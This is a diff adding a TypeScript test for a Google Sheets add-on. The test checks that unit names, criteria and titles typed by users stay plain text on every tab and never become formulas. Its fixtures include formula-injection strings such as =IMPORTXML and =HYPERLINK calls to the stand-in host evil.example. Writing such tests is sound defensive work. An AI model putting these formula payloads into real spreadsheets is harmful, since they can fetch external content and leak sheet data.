@@ -1,0 +1,125 @@
+/**
+ * People's text is written as text everywhere the add-on writes it: a unit name, a head, a
+ * criterion's text, a deferral reason or a title's name that looks like a formula, a number, a
+ * date or a boolean reaches every tab exactly as typed (value and display), and no cell the
+ * add-on wrote holds a formula. Through the real actions (set-up, filling, recompute) on the
+ * fakes, whose setValues reads strings as Sheets does in a vi_VN sheet (sheets-values.ts).
+ */
+import { describe, expect, it } from 'vitest';
+import { recompute } from '../../src/app/recompute';
+import { sampleYearConfig } from '../../src/app/sample';
+import { setupYear } from '../../src/app/setup';
+import type { YearConfig } from '../../src/workbook/config';
+import { fillCrossCheck, fillFinal, fillSelf } from '../app/steps';
+import { LEADER, OWNER, newWorld } from '../app/world';
+import type { FakeGoogle } from '../fakes/google';
+import { nfd } from './corpus';
+import { toA1 } from '../fakes/a1';
+import { workbookText } from '../../src/i18n/workbook';
+
+const CONFIG = workbookText.tabs.config;
+const CRITERIA = workbookText.tabs.criteria;
+const BALLOT = workbookText.tabs.ballot;
+const SUMMARY = workbookText.tabs.summary;
+
+/**
+ * Text that Sheets would turn into something else if written as typed, the n-th of a kind made
+ * unique so that each place's text can be followed to every tab it reaches.
+ */
+const KINDS: ReadonlyArray<(n: number) => string> = [
+  (n) => `=HYPERLINK("https://evil.example/${n}";"bấm")`,
+  (n) => `=IMPORTXML("https://evil.example/${n}";"//a")`,
+  (n) => `+${n}`,
+  (n) => `-${n}`,
+  (n) => `@Bình Dương ${n}`,
+  (n) => `'trích dẫn ${n}`,
+  (n) => `0${n}`,
+  (n) => `${n}/2`,
+  (n) => `${(n % 28) + 1}/12/2021`,
+  (n) => (n % 2 === 0 ? 'TRUE' : 'FALSE'),
+  (n) => `${n},5`,
+  (n) => `${n}.000`,
+  (n) => `${n}%`,
+  (n) => nfd(`Viện kiểm sát nhân dân tỉnh Đồng Nai ${n}`),
+  (n) => `${n} ${'Giải trình rất dài.'.repeat(2_700)}`.slice(0, 50_000),
+];
+
+/** The sample year with a hostile string in every place a person types text in Cấu hình. */
+function hostileConfig(): { config: YearConfig; placed: Map<string, string> } {
+  const config = sampleYearConfig(2021);
+  const placed = new Map<string, string>();
+  let i = 0;
+  const next = (where: string): string => {
+    const h = KINDS[i % KINDS.length]!(i + 1);
+    i++;
+    placed.set(where, h);
+    return h;
+  };
+  for (const u of config.units) {
+    u.name = next(`unit name ${u.id}`);
+    u.headName = next(`head ${u.id}`);
+    u.headTitle = next(`head title ${u.id}`);
+  }
+  config.units[1]!.deferredReason = next('reason');
+  for (const row of config.criteria!.rows.slice(0, 20)) row.content = next(`criterion ${row.code}`);
+  // The last title is what three units propose in Tổng hợp: a formula there would run.
+  const titles = config.rules.titles;
+  titles.forEach((t, k) => {
+    t.name = k === titles.length - 1 ? `=IMPORTXML("https://evil.example/t";"//a")` : next(`title ${t.id}`);
+    placed.set(`title ${t.id}`, t.name);
+  });
+  return { config, placed };
+}
+
+function cellsOf(g: FakeGoogle) {
+  const out: Array<{ tab: string; row: number; column: number; v: unknown; f?: string }> = [];
+  for (const s of g.shared.spreadsheet.sheets) {
+    for (const [r, row] of Object.entries(s.rows)) {
+      for (const [c, cell] of Object.entries(row)) out.push({ tab: s.name, row: Number(r), column: Number(c), v: cell.v, f: cell.f });
+    }
+  }
+  return out;
+}
+
+describe('people\'s text is written as text', () => {
+  it('reaches Cấu hình, Tiêu chí, the unit tabs and Tổng hợp exactly as typed, and no cell holds a formula', () => {
+    const g = newWorld();
+    const { config, placed } = hostileConfig();
+    const r = g.asUser(OWNER, () => setupYear(config));
+    expect(r.ok, r.message).toBe(true);
+    fillSelf(g);
+    fillCrossCheck(g);
+    fillFinal(g);
+    const rc = g.asUser(LEADER, () => recompute());
+    expect(rc.ok, rc.message).toBe(true);
+
+    const cells = cellsOf(g);
+    expect(cells.filter((c) => c.f !== undefined).map((c) => `${c.tab}!R${c.row}C${c.column} ${c.f}`)).toEqual([]);
+    // Every cell holding a placed text, compared in NFC: the readers normalise what they read
+    // (an NFD criterion reaches the unit tabs in NFC, the same letters).
+    const key = (v: string) => v.normalize('NFC');
+    const where = new Map<string, Set<string>>();
+    let checked = 0;
+    for (const c of cells) {
+      if (typeof c.v !== 'string') continue;
+      const shown = g.peekDisplay(c.tab, toA1(c.row, c.column))[0]![0];
+      const k = key(c.v);
+      if (![...placed.values()].some((h) => key(h) === k)) continue;
+      expect(shown, `${c.tab}!${toA1(c.row, c.column)}`).toBe(c.v);
+      checked++;
+      where.set(k, (where.get(k) ?? new Set()).add(c.tab));
+    }
+    const units = config.units.map((u) => u.id);
+    const expected = (field: string): string[] => {
+      if (field.startsWith('unit name ')) return [CONFIG, field.slice('unit name '.length)];
+      if (field.startsWith('criterion ')) return [CRITERIA, ...units];
+      if (field.startsWith('title ')) return field.endsWith(config.rules.titles.at(-1)!.id) ? [CONFIG, BALLOT, SUMMARY] : [CONFIG, BALLOT];
+      return [CONFIG];
+    };
+    for (const [field, h] of placed) {
+      const tabs = where.get(key(h)) ?? new Set<string>();
+      for (const tab of expected(field)) expect(tabs.has(tab), `${field} (${h.slice(0, 40)}) in ${tab}`).toBe(true);
+    }
+    expect(checked).toBeGreaterThan(placed.size);
+  });
+});
